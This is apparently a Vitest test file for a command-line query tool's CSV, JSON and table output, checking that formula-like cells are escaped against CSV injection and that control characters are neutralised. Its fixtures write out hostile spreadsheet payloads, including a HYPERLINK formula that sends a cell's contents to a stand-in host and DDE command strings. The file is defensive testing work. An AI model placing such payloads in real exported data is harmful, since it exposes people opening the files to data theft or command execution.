import { describe, expect, it } from 'vitest';
import { csvField } from '../../cli/query/csvField.js';
import { rowFormatter, TABLE_SAMPLE_ROWS, type ResultColumn } from '../../cli/query/rowFormatter.js';
import { athenaColumns } from '../../cli/remote/runAthenaQuery.js';

const text = { numeric: false, escapeFormulas: true };
const number = { numeric: true, escapeFormulas: true };

describe('csvField', () => {
  it.each<[string, unknown, typeof text, string]>([
    // Formula triggers in a text cell: prefixed with ' and quoted (OWASP CSV Injection).
    ['=HYPERLINK', '=HYPERLINK("http://evil.example/?x="&A1,"open")', text, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`],
    ['+cmd', "+cmd|' /C calc'!A0", text, `"'+cmd|' /C calc'!A0"`],
    ['-cmd', '-2+3+cmd|x', text, `"'-2+3+cmd|x"`],
    ['@SUM', '@SUM(1+1)*cmd|x', text, `"'@SUM(1+1)*cmd|x"`],
    ['a leading tab', '\t=1+1', text, `"'\t=1+1"`],
    ['a leading carriage return', '\r=1+1', text, `"'\r=1+1"`],
    ['a leading NUL', '\0=1', text, `"'\0=1"`],
    ['a negative number as text', '-5', text, `"'-5"`],
    // A numeric column is never prefixed: -5 stays the number -5.
    ['a negative integer', -5, number, '-5'],
    ['a negative decimal (text from DuckDB)', '-12.50', number, '-12.50'],
    ['a negative float', -0.25, number, '-0.25'],
    // Triggers elsewhere than the first character, and ordinary cells.
    ['= inside a cell', 'a=b', text, 'a=b'],
    ['a leading space', ' =1', text, ' =1'],
    ['a comma', 'a,b', text, '"a,b"'],
    ['a quote', 'say "hi"', text, '"say ""hi"""'],
    ['a line break', 'a\nb', text, '"a\nb"'],
    ['NULL', null, text, ''],
    ['an empty text', '', text, ''],
    ['a list', [1, '=2'], text, '"[1,""=2""]"'],
    ['an object', { a: '-1' }, text, '"{""a"":""-1""}"'],
    ['a boolean', true, text, 'true'],
  ])('writes %s', (_, value, options, expected) => {
    expect(csvField(value, options)).toBe(expected);
  });

  it('writes formula-like cells as they are when escaping is off, still quoted as RFC 4180 asks', () => {
    expect(csvField('=1+1', { numeric: false, escapeFormulas: false })).toBe('=1+1');
    expect(csvField('=HYPERLINK("x")', { numeric: false, escapeFormulas: false })).toBe('"=HYPERLINK(""x"")"');
  });
});

describe('rowFormatter', () => {
  const columns: ResultColumn[] = [
    { name: 'name', numeric: false },
    { name: 'n', numeric: true },
  ];
  const all = (format: 'table' | 'json' | 'csv', batches: unknown[][][], cols = columns, escapeFormulas = true) => {
    const formatter = rowFormatter(format, cols, { escapeFormulas });
    return batches.map((rows) => formatter.push(rows)).join('') + formatter.end();
  };

  it('writes CSV with a header, escaping by column type, batch after batch', () => {
    expect(all('csv', [[['=1', -1]], [['-1', 2]]])).toBe(`name,n\n"'=1",-1\n"'-1",2\n`);
  });

  it('escapes a formula-like column name in the CSV header', () => {
    expect(all('csv', [[]], [{ name: '=x', numeric: false }])).toBe(`"'=x"\n`);
  });

  it('writes the CSV header of an empty result', () => {
    expect(all('csv', [[]])).toBe('name,n\n');
  });

  it('writes CSV cells unescaped when told', () => {
    expect(all('csv', [[['=1', -1]]], columns, false)).toBe('name,n\n=1,-1\n');
  });

  it('writes JSON lines', () => {
    expect(all('json', [[['a', 1]], [[null, 2]]])).toBe('{"name":"a","n":1}\n{"name":null,"n":2}\n');
  });

  it('sizes table columns on the first rows and prints later, wider cells whole', () => {
    const first = Array.from({ length: TABLE_SAMPLE_ROWS }, () => ['ab', 1]);
    const formatter = rowFormatter('table', columns);
    expect(formatter.push(first.slice(0, 10))).toBe('');
    const printed = formatter.push(first.slice(10));
    expect(printed.split('\n').slice(0, 3)).toEqual(['name │ n', '─────┼──', 'ab   │ 1']);
    expect(formatter.push([['a much longer name', 22]])).toBe('a much longer name │ 22\n');
    expect(formatter.end()).toBe(`(${(TABLE_SAMPLE_ROWS + 1).toLocaleString('en')} rows)\n`);
  });

  it('prints a short table whole at the end, and an empty one with its header', () => {
    expect(all('table', [[['x', null]]])).toBe('name │ n\n─────┼─────\nx    │ NULL\n(1 row)\n');
    expect(all('table', [[]])).toBe('name │ n\n─────┼──\n(0 rows)\n');
  });

  it('shows control characters in table cells escaped, so a value cannot drive the terminal', () => {
    expect(all('table', [[['a\nb\u001b[2J\u009b', 1]]], columns)).toContain('a\\nb\\u001b[2J\\u009b │ 1');
  });
});

describe('athenaColumns', () => {
  it.each([
    ['bigint', true],
    ['integer', true],
    ['double', true],
    ['real', true],
    ['decimal', true],
    ['decimal(12,2)', true],
    ['varchar', false],
    ['date', false],
    ['timestamp', false],
    ['array', false],
    ['json', false],
  ])('treats an Athena %s column as numeric: %s', (type, numeric) => {
    expect(athenaColumns({ columns: ['c'], columnTypes: [type] })).toEqual([{ name: 'c', numeric }]);
  });
});
